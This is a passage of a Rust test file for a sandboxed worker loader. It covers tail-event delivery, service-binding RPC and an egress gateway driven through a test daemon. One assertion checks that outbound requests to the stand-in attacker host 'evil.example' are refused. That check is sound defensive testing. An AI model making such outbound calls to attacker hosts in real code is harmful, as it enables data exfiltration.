      const again = this.env.LOADER.load({ mainModule: "c.js", modules: { "c.js": CHILD },
        tails: [this.ctx.exports.DynamicWorkerTail({ props: { workerId: "again" } })] });
      await again.getEntrypoint().fetch("https://c/from-tail");
    }
  }
}
export default {
  async fetch(req, env, ctx) {
    const worker = env.LOADER.get("w1", async () => ({
      mainModule: "c.js", modules: { "c.js": CHILD },
      tails: [ctx.exports.DynamicWorkerTail({ props: { workerId: "w1" } })],
    }));
    const ok = await (await worker.getEntrypoint().fetch("https://c/fine")).text();
    let boom;
    try { await worker.getEntrypoint().fetch("https://c/boom"); } catch (e) { boom = e.message; }
    return Response.json({ ok, boom });
  }
};
"#;
    let parent = loader
        .load(
            WorkerCode::js("p.js", SRC)
                .with_binding("LOADER", loader.worker_loader("t/tails"))
                .with_binding("LOGS", Binding::Kv(ns.clone())),
        )
        .unwrap();
    let r = parent
        .entrypoint(None)
        .fetch(get("https://p/"))
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", text(&r));
    let out = body_json(&r);
    assert_eq!(out["ok"], "ok");
    assert!(out["boom"].as_str().unwrap().contains("boom"), "{out}");
    // Deliveries are in the background: wait for both (bounded).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let (fine, boom) = loop {
        let fine = ns.get("w1:https://c/fine").await.unwrap();
        let boom = ns.get("w1:https://c/boom").await.unwrap();
        if let (Some(f), Some(b)) = (&fine, &boom) {
            break (
                serde_json::from_slice::<Value>(&f.value).unwrap(),
                serde_json::from_slice::<Value>(&b.value).unwrap(),
            );
        }
        assert!(std::time::Instant::now() < deadline, "tails not delivered");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert_eq!(fine["n"], 1);
    assert_eq!(fine["script"], "w1", "{fine}");
    assert_eq!(fine["outcome"], "ok");
    assert_eq!(fine["status"], 200);
    assert_eq!(fine["logs"], json!(["child at /fine"]));
    assert_eq!(boom["outcome"], "exception", "{boom}");
    assert_eq!(boom["exceptions"], json!(["TypeError: boom"]), "{boom}");
    // The children loaded while delivering ran, and were not tailed.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let again = ns.list(Some("again:"), None, None).await.unwrap();
    assert_eq!(
        again["keys"],
        json!([]),
        "a tail delivery was tailed: {again}"
    );
}

/// Through the daemon: the egress gateway of `ctx.exports`, RPC on a service binding to a
/// registered worker, and a child's tail handed to a registered worker through the parent's
/// service binding.
#[tokio::test]
async fn ctx_exports_rpc_and_tails_through_the_daemon() {
    use wasm_sandbox_tests::daemon::{client, put_json, TempDir, TestDaemon};
    let dir = TempDir::new("worker-loader-exports");
    let d = TestDaemon::start(&dir.0, &[], &[]);
    let (status, v) = put_json(
        &d,
        "/workers/gateway-parent",
        &json!({ "code": GATEWAY_JS, "bindings": { "LOADER": { "loader": {} } } }),
    )
    .await;
    assert_eq!(status, 201, "{v}");
    let r = client()
        .get(d.url("/workers/gateway-parent/"))
        .send()
        .await
        .unwrap();
    let status = r.status();
    let body = r.text().await.unwrap();
    assert_eq!(status, 200, "{body}");
    let out: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(out["a"]["auth"], "Bearer token-for-acme", "{out}");
    assert_eq!(out["b"], "403 blocked: evil.example", "{out}");

    // A registered worker with RPC methods, used as a service binding and as a child's tail.
    let (status, v) = put_json(
        &d,
        "/workers/logger",
        &json!({ "code": "export default {
            add(a, b) { return a + b; },
            async tail(events, env) { for (const e of events) await env.LOGS.put('seen:' + e.event.request.url, e.outcome); },
            async count(env) { return 0; },
        };", "bindings": { "LOGS": { "kv": "logs" } } }),
    )
    .await;
    assert_eq!(status, 201, "{v}");
    let (status, v) = put_json(
        &d,
        "/workers/tail-parent",
        &json!({ "code": r#"export default { async fetch(req, env) {
            const sum = await env.LOGGER.add(20, 22);
            const w = env.LOADER.load({ mainModule: "c.js", modules: { "c.js": "export default { fetch() { return new Response('child'); } }" }, tails: [env.LOGGER] });
            const child = await (await w.getEntrypoint().fetch("https://c/traced")).text();
            return Response.json({ sum, child });
        } }"#, "bindings": { "LOADER": { "loader": {} }, "LOGGER": { "service": "logger" } } }),
    )
    .await;
    assert_eq!(status, 201, "{v}");
    let r = client()
        .get(d.url("/workers/tail-parent/"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let out: Value = r.json().await.unwrap();
    assert_eq!(out, json!({"sum": 42, "child": "child"}));
    // The delivery is in the background: read the logger's namespace until it shows (bounded).
    let (status, v) = put_json(
        &d,
        "/workers/reader",
        &json!({ "code": "export default { async fetch(req, env) { return new Response(String(await env.LOGS.get('seen:https://c/traced'))); } }",
                 "bindings": { "LOGS": { "kv": "logs" } } }),
    )
    .await;
    assert_eq!(status, 201, "{v}");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let seen = client()
            .get(d.url("/workers/reader/"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        if seen == "ok" {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no tail delivered: {seen}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}
